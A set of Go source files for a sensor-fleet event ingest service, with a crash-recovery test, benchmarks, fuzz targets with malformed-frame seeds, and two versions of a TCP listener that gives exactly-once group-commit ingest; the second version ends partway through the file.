	defer recovered.Close()
	if got := recovered.Len(); got != 10 {
		t.Fatalf("recovered store holds %d events, want the 10 acked ones (unacked batch %s)",
			got, map[bool]string{true: "double-applied", false: "partially torn"}[got > 10])
	}

	// Redelivery: the handshake resumes at the durable watermark and the
	// sensor's resend of batch 2 lands exactly once.
	l3 := listen(recovered, 0)
	conn3, w := dial(l3.Addr().String())
	if w != 1 {
		t.Fatalf("post-crash handshake watermark %d, want 1 (acked batch lost?)", w)
	}
	send(conn3, 2, events[10:])
	if w := readAck(conn3); w != 2 {
		t.Fatalf("redelivery ack %d, want 2", w)
	}
	conn3.Close()
	if err := l3.Close(); err != nil {
		t.Fatal(err)
	}
	got := recovered.Snapshot().Events()
	if len(got) != 20 {
		t.Fatalf("store holds %d events after redelivery, want exactly 20", len(got))
	}
	for i := range got {
		if !eventsEqual(got[i], events[i]) {
			t.Fatalf("event %d lost, duplicated, or corrupted across the crash", i)
		}
	}
}
