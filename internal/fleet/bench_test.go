package fleet

import (
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/ids"
)

// BenchmarkFleetThroughput measures end-to-end events/sec through the full
// wire path — spool, snappy batch encode, framed TCP, coordinator decode,
// dedup, group commit, sink append — for fleets of 1 to 8 sensors sharing
// one coordinator. The baseline lives in BENCH_fleet.json.
func BenchmarkFleetThroughput(b *testing.B) {
	for _, sensors := range []int{1, 2, 4, 8} {
		b.Run(fmt.Sprintf("sensors=%d", sensors), func(b *testing.B) {
			benchFleet(b, sensors)
		})
	}
}

// benchSink counts applied events without retaining them, like the real
// eventstore sink (which encodes to file buffers). Retaining decoded events
// (memSink) makes the benchmark nonlinear in b.N: the GC rescans the
// ever-growing live set, so longer runs report lower throughput.
type benchSink struct{ n atomic.Int64 }

func (s *benchSink) AppendBatch(events []ids.Event) error {
	s.n.Add(int64(len(events)))
	return nil
}

func benchFleet(b *testing.B, sensors int) {
	const per = 100 // events per batch
	events := testEvents(b, per)

	sink := &benchSink{}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	l, err := Listen(ListenerConfig{Listener: ln, Sink: sink, Dir: b.TempDir()})
	if err != nil {
		b.Fatal(err)
	}
	defer l.Close()

	ships := make([]*Shipper, sensors)
	for i := range ships {
		s, err := StartShipper(ShipperConfig{
			Addr: l.Addr().String(), SensorID: fmt.Sprintf("bench-%d", i),
			StateDir: b.TempDir(), Window: 16,
			HeartbeatEvery: time.Second,
		})
		if err != nil {
			b.Fatal(err)
		}
		defer s.Close()
		ships[i] = s
	}

	batches := b.N/per + 1
	b.SetBytes(int64(per))
	b.ResetTimer()
	var wg sync.WaitGroup
	for _, s := range ships {
		wg.Add(1)
		go func(s *Shipper) {
			defer wg.Done()
			for i := 0; i < batches; i++ {
				if err := s.AppendBatch(events); err != nil {
					b.Error(err)
					return
				}
			}
		}(s)
	}
	wg.Wait()
	deadline := time.Now().Add(2 * time.Minute)
	for _, s := range ships {
		for !s.Drained() {
			if time.Now().After(deadline) {
				b.Fatalf("never drained: %+v", s.Metrics())
			}
			time.Sleep(time.Millisecond)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64(sink.n.Load())/b.Elapsed().Seconds(), "events/s")
}

func BenchmarkSnappyEncode(b *testing.B) {
	events := testEvents(b, 500)
	raw := encodeSpoolBatch(1, events)
	b.SetBytes(int64(len(raw)))
	var dst []byte
	for i := 0; i < b.N; i++ {
		dst = snappyEncode(dst[:0], raw)
	}
	b.ReportMetric(float64(len(raw))/float64(len(dst)), "ratio")
}

func BenchmarkBatchEncodeDecode(b *testing.B) {
	events := testEvents(b, 100)
	for _, codec := range []Codec{CodecRaw, CodecSnappy, CodecDeflate} {
		b.Run(codec.String(), func(b *testing.B) {
			b.SetBytes(int64(len(events)))
			for i := 0; i < b.N; i++ {
				wire, err := encodeBatch(uint64(i+1), events, codec)
				if err != nil {
					b.Fatal(err)
				}
				if _, err := decodeBatch(wire); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
