package fleet

import (
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"testing"

	"repro/internal/fuzzcorpus"
)

func fuzzReadFrameSeeds(tb testing.TB) [][]byte {
	frame := func(payload []byte) []byte {
		var b bytes.Buffer
		if err := writeFrame(&b, payload); err != nil {
			tb.Fatal(err)
		}
		return b.Bytes()
	}
	torn := frame([]byte("torn mid-payload"))
	corrupt := append([]byte(nil), frame([]byte("crc mismatch"))...)
	corrupt[len(corrupt)-1] ^= 0x01
	return [][]byte{
		frame([]byte("hello fleet")),
		frame(nil),
		frame(encodeAck(42)),
		{},
		{0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0}, // length far past maxFrame
		torn[:len(torn)-3],
		corrupt,
	}
}

func fuzzDecodeBatchSeeds(tb testing.TB) [][]byte {
	var seeds [][]byte
	events := testEvents(tb, 5)
	for _, codec := range []Codec{CodecRaw, CodecSnappy, CodecDeflate} {
		msg, err := encodeBatch(3, events, codec)
		if err != nil {
			tb.Fatal(err)
		}
		flipped := append([]byte(nil), msg...)
		flipped[len(flipped)/2] ^= 0x20 // corrupt the compressed body
		seeds = append(seeds, msg, msg[:len(msg)-4], flipped)
	}
	empty, err := encodeBatch(1, nil, CodecSnappy)
	if err != nil {
		tb.Fatal(err)
	}
	// A batch whose header declares a huge raw size with a tiny body.
	lying := []byte{msgBatch}
	lying = binary.LittleEndian.AppendUint64(lying, 9)
	lying = append(lying, byte(CodecSnappy))
	lying = binary.LittleEndian.AppendUint32(lying, 1)
	lying = binary.LittleEndian.AppendUint32(lying, maxBatchRaw)
	// A raw batch whose header declares far more events than its bytes can
	// hold — the count sizes an allocation, so this once reserved gigabytes.
	countLie := []byte{msgBatch}
	countLie = binary.LittleEndian.AppendUint64(countLie, 9)
	countLie = append(countLie, byte(CodecRaw))
	countLie = binary.LittleEndian.AppendUint32(countLie, 1<<29)
	countLie = binary.LittleEndian.AppendUint32(countLie, 8)
	countLie = append(countLie, make([]byte, 8)...)
	return append(seeds, empty, []byte{}, []byte{msgBatch}, append(lying, 0x00), countLie)
}

// TestRegenFuzzCorpus rewrites this package's committed seed corpora from
// the same seed lists the fuzz targets f.Add. Run with REGEN_FUZZ_CORPUS=1
// after changing the seeds.
func TestRegenFuzzCorpus(t *testing.T) {
	if !fuzzcorpus.Regen() {
		t.Skip("set REGEN_FUZZ_CORPUS=1 to rewrite testdata/fuzz")
	}
	fuzzcorpus.Write(t, "FuzzReadFrame", fuzzReadFrameSeeds(t))
	fuzzcorpus.Write(t, "FuzzDecodeBatch", fuzzDecodeBatchSeeds(t))
}

// FuzzReadFrame feeds arbitrary bytes to the wire framing — the first thing
// either end of a fleet connection does with untrusted input. The frame
// reader must never panic, never return a payload larger than maxFrame, and
// must reject any payload whose CRC does not match. It also checks the
// round-trip property: any payload the writer accepts must read back intact.
func FuzzReadFrame(f *testing.F) {
	for _, seed := range fuzzReadFrameSeeds(f) {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		payload, err := readFrame(bytes.NewReader(data), nil)
		if err == nil {
			if len(payload) > maxFrame {
				t.Fatalf("accepted a %d-byte payload past the %d frame limit", len(payload), maxFrame)
			}
			// An accepted frame's header must actually describe it.
			if len(data) < 8+len(payload) {
				t.Fatalf("returned %d payload bytes from %d input bytes", len(payload), len(data))
			}
			declared := binary.LittleEndian.Uint32(data[0:4])
			if int(declared) != len(payload) {
				t.Fatalf("payload is %d bytes, header declared %d", len(payload), declared)
			}
			if sum := crc32.Checksum(payload, wireCRC); sum != binary.LittleEndian.Uint32(data[4:8]) {
				t.Fatal("accepted a frame whose CRC does not cover its payload")
			}
		}

		// Round trip: the fuzz input as a payload must survive the writer.
		if len(data) > maxFrame {
			return
		}
		var b bytes.Buffer
		if err := writeFrame(&b, data); err != nil {
			t.Fatalf("writeFrame rejected a %d-byte payload: %v", len(data), err)
		}
		back, err := readFrame(bytes.NewReader(b.Bytes()), nil)
		if err != nil {
			t.Fatalf("round trip failed: %v", err)
		}
		if !bytes.Equal(back, data) {
			t.Fatalf("round trip corrupted payload: sent %d bytes, got %d back", len(data), len(back))
		}
	})
}

// FuzzDecodeBatch hammers the batch decoder — the only fleet message whose
// payload holds untrusted variable-length structure (a declared event count,
// a declared decompressed size, and a compressed body) — across all three
// codecs. The decoder must never panic, must respect maxBatchRaw, and the
// scratch-reusing variant must agree with the allocating one on both the
// accept/reject decision and the decoded events.
func FuzzDecodeBatch(f *testing.F) {
	for _, seed := range fuzzDecodeBatchSeeds(f) {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		m, err := decodeBatch(data)
		scratch := make([]byte, 16)
		m2, _, err2 := decodeBatchScratch(data, scratch)
		if (err == nil) != (err2 == nil) {
			t.Fatalf("decodeBatch err=%v but decodeBatchScratch err=%v", err, err2)
		}
		if err != nil {
			return
		}
		if m.Seq != m2.Seq || len(m.Events) != len(m2.Events) {
			t.Fatalf("variants disagree: seq %d/%d, %d/%d events", m.Seq, m2.Seq, len(m.Events), len(m2.Events))
		}
		for i := range m.Events {
			if !eventsEqual(m.Events[i], m2.Events[i]) {
				t.Fatalf("event %d differs between decode variants", i)
			}
		}
		// Accepted batches re-encode and decode back to the same events.
		re, err := encodeBatch(m.Seq, m.Events, CodecRaw)
		if err != nil {
			t.Fatalf("re-encoding an accepted batch: %v", err)
		}
		back, err := decodeBatch(re)
		if err != nil {
			t.Fatalf("decoding a re-encoded batch: %v", err)
		}
		if back.Seq != m.Seq || len(back.Events) != len(m.Events) {
			t.Fatalf("re-encode round trip: seq %d/%d, %d/%d events", back.Seq, m.Seq, len(back.Events), len(m.Events))
		}
		for i := range back.Events {
			if !eventsEqual(back.Events[i], m.Events[i]) {
				t.Fatalf("re-encode round trip: event %d differs", i)
			}
		}
	})
}
