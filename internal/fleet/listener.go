package fleet

import (
	"errors"
	"fmt"
	"net"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/fault"
	"repro/internal/ids"
)

// Sink receives applied event batches. *eventstore.Store satisfies it.
type Sink interface {
	AppendBatch(events []ids.Event) error
}

// syncer is implemented by sinks with durable state (*eventstore.Store).
// When the Sink is one, its appends are flushed before each watermark
// advance: the watermark must never claim events the sink could still lose
// to power loss, because the sensor will not resend below the watermark.
type syncer interface{ Sync() error }

// metaCommitter is implemented by sinks whose durability point can carry an
// opaque payload atomically (*eventstore.Store's commit record). When the
// Sink is one, the listener stores the fleet watermarks IN the sink's commit
// record instead of a separate journal fsync: one durable write covers both
// "these events exist" and "these batches are applied", closing the crash
// window between them and halving the fsyncs per group commit.
type metaCommitter interface {
	// CommitFunc makes everything appended so far durable in one commit whose
	// record carries metaFn's return value; metaFn runs at the commit's
	// consistent cut (see eventstore.Store.CommitFunc).
	CommitFunc(metaFn func() []byte) error
	CommitMeta() []byte
}

// hookAppender is implemented by sinks (*eventstore.Store) that can run a
// hook inside the append's critical section. When the Sink is a
// metaCommitter the listener requires this too: enqueueing a batch's commit
// request from inside its append is what guarantees the commit cut's meta
// covers every batch whose bytes the cut includes — an enqueue after the
// append returns could lose that race to a concurrent commit, and a crash
// right after that commit would replay the batch on top of its own bytes.
type hookAppender interface {
	AppendBatchFunc(events []ids.Event, applied func()) error
}

// ListenerConfig wires a coordinator-side fleet listener.
type ListenerConfig struct {
	// Addr is the TCP listen address (":8417" style). Ignored when Listener
	// is set.
	Addr string
	// Listener, when non-nil, is used instead of binding Addr (tests bind
	// 127.0.0.1:0 themselves).
	Listener net.Listener
	// Sink receives each applied batch. Required.
	Sink Sink
	// Dir holds the watermark journal — give it the eventstore directory so
	// dedup state and event log live together. Required.
	Dir string
	// IdleTimeout closes a connection that has sent nothing (not even a
	// heartbeat) for this long. Zero means 60s.
	IdleTimeout time.Duration
	// WriteTimeout bounds ack/handshake writes. Zero means 10s.
	WriteTimeout time.Duration
	// CommitInterval is how long the committer gathers batches into one
	// group commit. Zero means adaptive: commit whatever queued while the
	// previous commit's fsync was in flight — lowest latency when idle,
	// widest coalescing exactly when the disk is the bottleneck. Set it
	// above zero only to trade ack latency for fewer, larger fsyncs on
	// storage with expensive flushes.
	CommitInterval time.Duration
	// MaxCommitBatch caps how many batches one group commit covers. Zero
	// means 256.
	MaxCommitBatch int
	// DecodeWorkers sizes the shared batch-decode pool. Zero means
	// GOMAXPROCS.
	DecodeWorkers int
	// FS is the filesystem the watermark journal runs against. Nil means
	// the real one; the simulation harness substitutes a fault.SimFS
	// (typically the same one backing the sink eventstore, so store and
	// journal crash together).
	FS fault.FS
}

func (c ListenerConfig) withDefaults() ListenerConfig {
	if c.IdleTimeout == 0 {
		c.IdleTimeout = 60 * time.Second
	}
	if c.WriteTimeout == 0 {
		c.WriteTimeout = 10 * time.Second
	}
	if c.MaxCommitBatch == 0 {
		c.MaxCommitBatch = 256
	}
	if c.DecodeWorkers == 0 {
		c.DecodeWorkers = runtime.GOMAXPROCS(0)
	}
	return c
}

// SensorStatus is one sensor's liveness and progress as the coordinator
// sees it — the rows behind GET /v1/fleet and the per-sensor /metrics
// gauges.
type SensorStatus struct {
	ID         string    `json:"id"`
	Shard      int       `json:"shard"`
	Shards     int       `json:"shards"`
	Codec      string    `json:"codec"`
	Connected  bool      `json:"connected"`
	RemoteAddr string    `json:"remote_addr,omitempty"`
	LastSeen   time.Time `json:"last_seen"`
	// Watermark is the highest applied batch sequence (durable).
	Watermark uint64 `json:"watermark"`
	// Batches/Events/DupBatches count what this process applied or dropped
	// since start (they reset on coordinator restart; Watermark does not).
	Batches    uint64 `json:"batches"`
	Events     uint64 `json:"events"`
	DupBatches uint64 `json:"dup_batches"`
	// SpooledBatches and IngestLag are the sensor's own view from its last
	// heartbeat: how far behind the fleet is even when the wire is quiet.
	SpooledBatches uint32 `json:"spooled_batches"`
	IngestLag      int64  `json:"ingest_lag"`
}

// Listener accepts sensor connections and performs exactly-once ingest.
//
// The hot path is a group-commit pipeline: each connection's read loop only
// reads frames (batch decode runs in a shared worker pool, ack writes on a
// dedicated goroutine), appends land in the sink concurrently across
// sensors, and a single committer coalesces all pending batches into one
// durability point before releasing their acks. See committer.go.
type Listener struct {
	cfg      ListenerConfig
	ln       net.Listener
	wm       *Watermarks
	sinkSync syncer        // cfg.Sink when it can fsync, else nil
	metaSink metaCommitter // cfg.Sink when watermarks can ride its commit record, else nil
	sinkHook hookAppender  // cfg.Sink when appends take an in-lock hook, else nil

	mu      sync.Mutex
	sensors map[string]*sensorState
	conns   map[net.Conn]struct{}

	batches atomic.Uint64
	events  atomic.Uint64
	dups    atomic.Uint64

	// The commit queue. A mutex-guarded slice rather than a channel because
	// enqueues happen inside the sink's append locks (see hookAppender) and
	// must never block there: a full channel drained only by a committer that
	// is itself waiting for those locks would deadlock.
	pendMu     sync.Mutex
	pending    []commitReq
	commitKick chan struct{} // one-slot: "the queue is non-empty"
	commitStop chan struct{} // closed by shutdown: final drain, then exit
	commitDone chan struct{}
	// carry holds watermark advances from failed commits, owned by the
	// committer goroutine alone; see commit().
	carry    map[string]uint64
	abortCh  chan struct{} // closed by abandon(): simulate a crash, commit nothing more
	decodeCh chan decodeJob
	decodeWg sync.WaitGroup

	commits        atomic.Uint64
	coalesced      atomic.Uint64
	lastBatches    atomic.Uint64
	lastFsyncNanos atomic.Uint64

	wg     sync.WaitGroup
	closed atomic.Bool

	errMu    sync.Mutex
	firstErr error
}

// sensorState serializes batch application per sensor (an old zombie
// connection must not interleave with its replacement) and holds status.
// applyMu orders appends and commit-queue entries; mu guards only the
// status row, so heartbeats and /v1/fleet reads never wait on disk.
type sensorState struct {
	applyMu     sync.Mutex
	applied     uint64 // highest batch sequence appended to the sink (≥ the durable watermark)
	appliedInit bool

	mu     sync.Mutex
	status SensorStatus
	conn   net.Conn // active connection, nil when disconnected
}

// Listen opens the watermark journal and starts accepting sensors.
func Listen(cfg ListenerConfig) (*Listener, error) {
	cfg = cfg.withDefaults()
	if cfg.Sink == nil || cfg.Dir == "" {
		return nil, errors.New("fleet: ListenerConfig needs Sink and Dir")
	}
	ln := cfg.Listener
	if ln == nil {
		if cfg.Addr == "" {
			return nil, errors.New("fleet: ListenerConfig needs Addr or Listener")
		}
		var err error
		ln, err = net.Listen("tcp", cfg.Addr)
		if err != nil {
			return nil, err
		}
	}
	wm, err := OpenWatermarksFS(cfg.FS, cfg.Dir)
	if err != nil {
		ln.Close()
		return nil, err
	}
	l := &Listener{
		cfg: cfg, ln: ln, wm: wm,
		sensors:    map[string]*sensorState{},
		conns:      map[net.Conn]struct{}{},
		commitKick: make(chan struct{}, 1),
		commitStop: make(chan struct{}),
		commitDone: make(chan struct{}),
		abortCh:    make(chan struct{}),
		decodeCh:   make(chan decodeJob, 2*cfg.DecodeWorkers),
	}
	l.sinkSync, _ = cfg.Sink.(syncer)
	l.metaSink, _ = cfg.Sink.(metaCommitter)
	l.sinkHook, _ = cfg.Sink.(hookAppender)
	if l.metaSink != nil {
		// Watermarks written by a previous run live in the sink's commit
		// record; merge them with any journal-file marks (from a pre-group-
		// commit store), newest per sensor wins.
		if meta := l.metaSink.CommitMeta(); len(meta) > 0 {
			marks, err := decodeMeta(meta)
			if err != nil {
				ln.Close()
				wm.Close()
				return nil, err
			}
			l.wm.adopt(marks)
		}
	}
	l.decodeWg.Add(cfg.DecodeWorkers)
	for i := 0; i < cfg.DecodeWorkers; i++ {
		go l.decodeWorker()
	}
	go l.commitLoop()
	l.wg.Add(1)
	go l.acceptLoop()
	return l, nil
}

// Addr returns the bound listen address.
func (l *Listener) Addr() net.Addr { return l.ln.Addr() }

// Watermarks exposes the dedup journal (tests audit it; serve reports it).
func (l *Listener) Watermarks() *Watermarks { return l.wm }

// Totals reports batches applied, events applied, and duplicate batches
// dropped since this process started.
func (l *Listener) Totals() (batches, events, dups uint64) {
	return l.batches.Load(), l.events.Load(), l.dups.Load()
}

// Err returns the first fatal apply error (sink append or commit failure),
// or nil. Connection-level errors are not fatal: the sensor reconnects and
// redelivers.
func (l *Listener) Err() error {
	l.errMu.Lock()
	defer l.errMu.Unlock()
	return l.firstErr
}

func (l *Listener) fail(err error) {
	l.errMu.Lock()
	if l.firstErr == nil {
		l.firstErr = err
	}
	l.errMu.Unlock()
}

// Sensors returns every known sensor's status, sorted by ID.
func (l *Listener) Sensors() []SensorStatus {
	l.mu.Lock()
	states := make([]*sensorState, 0, len(l.sensors))
	for _, st := range l.sensors {
		states = append(states, st)
	}
	l.mu.Unlock()
	out := make([]SensorStatus, 0, len(states))
	for _, st := range states {
		st.mu.Lock()
		s := st.status
		s.Watermark = l.wm.Get(s.ID)
		st.mu.Unlock()
		out = append(out, s)
	}
	sortStatuses(out)
	return out
}

func sortStatuses(s []SensorStatus) {
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j].ID < s[j-1].ID; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
}

// Close stops accepting, closes live connections, waits for handlers to
// finish, lets the committer flush every still-queued batch (so each applied
// batch has its watermark made durable), and closes the journal.
func (l *Listener) Close() error {
	return l.shutdown(false)
}

// abandon is a test hook: tear down like Close but commit NOTHING queued —
// the process-death simulation for crash-consistency tests. Batches already
// appended to the sink but not yet group-committed are exactly the state a
// kill between append and commit leaves behind.
func (l *Listener) abandon() error {
	return l.shutdown(true)
}

func (l *Listener) shutdown(abort bool) error {
	if !l.closed.CompareAndSwap(false, true) {
		return nil
	}
	if abort {
		close(l.abortCh)
	}
	err := l.ln.Close()
	l.mu.Lock()
	for c := range l.conns {
		c.Close()
	}
	l.mu.Unlock()
	l.wg.Wait()
	close(l.decodeCh)
	l.decodeWg.Wait()
	close(l.commitStop)
	<-l.commitDone
	if werr := l.wm.Close(); err == nil {
		err = werr
	}
	if aerr := l.Err(); err == nil && !abort {
		err = aerr
	}
	return err
}

func (l *Listener) acceptLoop() {
	defer l.wg.Done()
	for {
		conn, err := l.ln.Accept()
		if err != nil {
			return // closed
		}
		l.mu.Lock()
		if l.closed.Load() {
			l.mu.Unlock()
			conn.Close()
			return
		}
		l.conns[conn] = struct{}{}
		l.wg.Add(1)
		l.mu.Unlock()
		go l.handle(conn)
	}
}

// pendingBatches bounds how many decoded-but-unapplied batches one
// connection may have in flight — the read loop's backpressure when apply
// or the committer falls behind.
const pendingBatches = 64

func (l *Listener) handle(conn net.Conn) {
	defer l.wg.Done()
	defer func() {
		conn.Close()
		l.mu.Lock()
		delete(l.conns, conn)
		l.mu.Unlock()
	}()

	conn.SetReadDeadline(time.Now().Add(l.cfg.IdleTimeout))
	frame, err := readFrame(conn, nil)
	if err != nil {
		return
	}
	h, err := decodeHello(frame)
	if err != nil {
		return
	}

	st := l.register(h, conn)
	defer l.disconnect(st, conn)

	ack := helloAck{Version: ProtocolVersion, Watermark: l.wm.Get(h.SensorID)}
	conn.SetWriteDeadline(time.Now().Add(l.cfg.WriteTimeout))
	if err := writeFrame(conn, ack.encode()); err != nil {
		return
	}

	sender := newAckSender(conn, l.cfg.WriteTimeout)
	defer sender.close()

	// The apply goroutine consumes decode results in arrival order; the read
	// loop below never waits on decode, disk, or the peer's ack reads.
	pending := make(chan chan decodeResult, pendingBatches)
	applyDone := make(chan struct{})
	go func() {
		defer close(applyDone)
		for out := range pending {
			res := <-out
			if res.err != nil || !l.apply(st, h.SensorID, conn, sender, res.batch) {
				conn.Close() // unblocks the read loop, which closes pending
				for range pending {
				}
				return
			}
		}
	}()
	defer func() { <-applyDone }()
	defer close(pending)

	var buf []byte
	for {
		conn.SetReadDeadline(time.Now().Add(l.cfg.IdleTimeout))
		frame, err := readFrame(conn, buf)
		if err != nil {
			return
		}
		buf = frame
		if len(frame) == 0 {
			return
		}
		switch frame[0] {
		case msgBatch:
			bp := frameBufPool.Get().(*[]byte)
			*bp = append((*bp)[:0], frame...)
			out := make(chan decodeResult, 1)
			l.decodeCh <- decodeJob{buf: bp, out: out}
			pending <- out
		case msgHeartbeat:
			hb, err := decodeHeartbeat(frame)
			if err != nil {
				return
			}
			st.mu.Lock()
			st.status.LastSeen = time.Now().UTC()
			st.status.SpooledBatches = hb.Spooled
			st.status.IngestLag = hb.IngestLag
			st.mu.Unlock()
		default:
			return // protocol error; let the sensor reconnect
		}
	}
}

// apply performs the exactly-once step for one batch. The next-in-sequence
// batch is appended to the sink (concurrently with other sensors — the sink
// locks per shard) and queued for the group commit; its ack is released only
// once the committer has made the batch AND its watermark durable, so an
// acked batch can never be un-applied by a crash. Duplicates at or below the
// durable watermark are re-acked immediately; duplicates of an applied but
// not-yet-durable batch wait in the commit queue for the covering commit. A
// gap (sequence beyond applied+1) fails the connection so the sensor resyncs
// from the handshake. Returns whether the connection may continue.
func (l *Listener) apply(st *sensorState, id string, conn net.Conn, sender *ackSender, b batchMsg) bool {
	st.applyMu.Lock()
	defer st.applyMu.Unlock()
	if !st.appliedInit {
		st.applied = l.wm.Get(id)
		st.appliedInit = true
	}
	st.mu.Lock()
	st.status.LastSeen = time.Now().UTC()
	st.mu.Unlock()
	switch {
	case b.Seq <= st.applied:
		l.dups.Add(1)
		st.mu.Lock()
		st.status.DupBatches++
		st.mu.Unlock()
		if w := l.wm.Get(id); b.Seq <= w {
			sender.push(w) // already durable: re-ack straight away
		} else {
			// Applied but its group commit is still in flight; queue a waiter
			// so the ack waits for durability like the original delivery did.
			l.enqueueCommit(commitReq{id: id, seq: b.Seq, conn: conn, ack: sender})
		}
		return true
	case b.Seq != st.applied+1:
		return false // gap: redelivery lost a batch; force a resync
	}
	// Enqueued under applyMu so this sensor's requests enter the commit queue
	// in sequence order; the ack is the committer's job now. With a
	// hookAppender sink the enqueue runs inside the append's own locks — any
	// commit cut that covers this batch's bytes is then guaranteed to drain
	// its request and carry its watermark advance in the same record.
	req := commitReq{id: id, seq: b.Seq, appended: true, conn: conn, ack: sender}
	var err error
	if l.sinkHook != nil {
		err = l.sinkHook.AppendBatchFunc(b.Events, func() { l.enqueueCommit(req) })
	} else {
		err = l.cfg.Sink.AppendBatch(b.Events)
	}
	if err != nil {
		l.fail(fmt.Errorf("fleet: applying batch %d from %s: %w", b.Seq, id, err))
		return false
	}
	st.applied = b.Seq
	l.batches.Add(1)
	l.events.Add(uint64(len(b.Events)))
	st.mu.Lock()
	st.status.Batches++
	st.status.Events += uint64(len(b.Events))
	st.mu.Unlock()
	if l.sinkHook == nil {
		l.enqueueCommit(req)
	}
	return true
}

// register notes a (re)connected sensor, superseding any previous
// connection's status row.
func (l *Listener) register(h hello, conn net.Conn) *sensorState {
	l.mu.Lock()
	st, ok := l.sensors[h.SensorID]
	if !ok {
		st = &sensorState{}
		l.sensors[h.SensorID] = st
	}
	l.mu.Unlock()
	st.mu.Lock()
	st.status.ID = h.SensorID
	st.status.Shard = int(h.ShardIndex)
	st.status.Shards = int(h.ShardCount)
	st.status.Codec = h.Codec.String()
	st.status.Connected = true
	st.status.RemoteAddr = conn.RemoteAddr().String()
	st.status.LastSeen = time.Now().UTC()
	st.conn = conn
	st.mu.Unlock()
	return st
}

// disconnect clears Connected unless a newer connection already took over.
func (l *Listener) disconnect(st *sensorState, conn net.Conn) {
	st.mu.Lock()
	if st.conn == conn {
		st.conn = nil
		st.status.Connected = false
	}
	st.mu.Unlock()
}
