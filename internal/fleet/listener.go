package fleet

import (
	"errors"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/ids"
)

// Sink receives applied event batches. *eventstore.Store satisfies it.
type Sink interface {
	AppendBatch(events []ids.Event) error
}

// syncer is implemented by sinks with durable state (*eventstore.Store).
// When the Sink is one, its appends are flushed before each watermark
// advance: the watermark must never claim events the sink could still lose
// to power loss, because the sensor will not resend below the watermark.
type syncer interface{ Sync() error }

// ListenerConfig wires a coordinator-side fleet listener.
type ListenerConfig struct {
	// Addr is the TCP listen address (":8417" style). Ignored when Listener
	// is set.
	Addr string
	// Listener, when non-nil, is used instead of binding Addr (tests bind
	// 127.0.0.1:0 themselves).
	Listener net.Listener
	// Sink receives each applied batch. Required.
	Sink Sink
	// Dir holds the watermark journal — give it the eventstore directory so
	// dedup state and event log live together. Required.
	Dir string
	// IdleTimeout closes a connection that has sent nothing (not even a
	// heartbeat) for this long. Zero means 60s.
	IdleTimeout time.Duration
	// WriteTimeout bounds ack/handshake writes. Zero means 10s.
	WriteTimeout time.Duration
}

func (c ListenerConfig) withDefaults() ListenerConfig {
	if c.IdleTimeout == 0 {
		c.IdleTimeout = 60 * time.Second
	}
	if c.WriteTimeout == 0 {
		c.WriteTimeout = 10 * time.Second
	}
	return c
}

// SensorStatus is one sensor's liveness and progress as the coordinator
// sees it — the rows behind GET /v1/fleet and the per-sensor /metrics
// gauges.
type SensorStatus struct {
	ID         string    `json:"id"`
	Shard      int       `json:"shard"`
	Shards     int       `json:"shards"`
	Codec      string    `json:"codec"`
	Connected  bool      `json:"connected"`
	RemoteAddr string    `json:"remote_addr,omitempty"`
	LastSeen   time.Time `json:"last_seen"`
	// Watermark is the highest applied batch sequence (durable).
	Watermark uint64 `json:"watermark"`
	// Batches/Events/DupBatches count what this process applied or dropped
	// since start (they reset on coordinator restart; Watermark does not).
	Batches    uint64 `json:"batches"`
	Events     uint64 `json:"events"`
	DupBatches uint64 `json:"dup_batches"`
	// SpooledBatches and IngestLag are the sensor's own view from its last
	// heartbeat: how far behind the fleet is even when the wire is quiet.
	SpooledBatches uint32 `json:"spooled_batches"`
	IngestLag      int64  `json:"ingest_lag"`
}

// Listener accepts sensor connections and performs exactly-once ingest.
type Listener struct {
	cfg      ListenerConfig
	ln       net.Listener
	wm       *Watermarks
	sinkSync syncer // cfg.Sink when it can fsync, else nil

	mu      sync.Mutex
	sensors map[string]*sensorState
	conns   map[net.Conn]struct{}

	batches atomic.Uint64
	events  atomic.Uint64
	dups    atomic.Uint64

	wg     sync.WaitGroup
	closed atomic.Bool

	errMu    sync.Mutex
	firstErr error
}

// sensorState serializes batch application per sensor (an old zombie
// connection must not interleave with its replacement) and holds status.
type sensorState struct {
	mu     sync.Mutex
	status SensorStatus
	conn   net.Conn // active connection, nil when disconnected
}

// Listen opens the watermark journal and starts accepting sensors.
func Listen(cfg ListenerConfig) (*Listener, error) {
	cfg = cfg.withDefaults()
	if cfg.Sink == nil || cfg.Dir == "" {
		return nil, errors.New("fleet: ListenerConfig needs Sink and Dir")
	}
	ln := cfg.Listener
	if ln == nil {
		if cfg.Addr == "" {
			return nil, errors.New("fleet: ListenerConfig needs Addr or Listener")
		}
		var err error
		ln, err = net.Listen("tcp", cfg.Addr)
		if err != nil {
			return nil, err
		}
	}
	wm, err := OpenWatermarks(cfg.Dir)
	if err != nil {
		ln.Close()
		return nil, err
	}
	l := &Listener{
		cfg: cfg, ln: ln, wm: wm,
		sensors: map[string]*sensorState{},
		conns:   map[net.Conn]struct{}{},
	}
	l.sinkSync, _ = cfg.Sink.(syncer)
	l.wg.Add(1)
	go l.acceptLoop()
	return l, nil
}

// Addr returns the bound listen address.
func (l *Listener) Addr() net.Addr { return l.ln.Addr() }

// Watermarks exposes the dedup journal (tests audit it; serve reports it).
func (l *Listener) Watermarks() *Watermarks { return l.wm }

// Totals reports batches applied, events applied, and duplicate batches
// dropped since this process started.
func (l *Listener) Totals() (batches, events, dups uint64) {
	return l.batches.Load(), l.events.Load(), l.dups.Load()
}

// Err returns the first fatal apply error (sink append or watermark write
// failure), or nil. Connection-level errors are not fatal: the sensor
// reconnects and redelivers.
func (l *Listener) Err() error {
	l.errMu.Lock()
	defer l.errMu.Unlock()
	return l.firstErr
}

func (l *Listener) fail(err error) {
	l.errMu.Lock()
	if l.firstErr == nil {
		l.firstErr = err
	}
	l.errMu.Unlock()
}

// Sensors returns every known sensor's status, sorted by ID.
